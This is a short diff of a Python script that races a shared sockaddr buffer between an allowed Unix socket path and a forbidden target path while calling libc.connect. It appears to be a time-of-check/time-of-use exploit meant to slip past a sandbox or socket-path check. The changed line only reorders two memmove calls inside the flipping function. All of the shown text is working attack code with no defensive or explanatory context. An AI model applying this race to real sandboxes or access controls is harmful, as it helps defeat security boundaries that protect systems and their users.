@@ -233,7 +233,7 @@ own = socket.socket(socket.AF_UNIX); own.bind('own'); own.listen(4096)
 def address(path): return struct.pack('H', 1) + path.encode().ljust(108, b'\\0')
 good, bad = address('own'), address(OUT + '/stream')
 shared = ctypes.create_string_buffer(good, 110)
-def flip(): ctypes.memmove(shared, bad, 110); ctypes.memmove(shared, good, 110)
+def flip(): ctypes.memmove(shared, good, 110); ctypes.memmove(shared, bad, 110)
 def attempt():
     with socket.socket(socket.AF_UNIX) as s:
         if libc.connect(s.fileno(), shared, 110): raise OSError(ctypes.get_errno(), '')
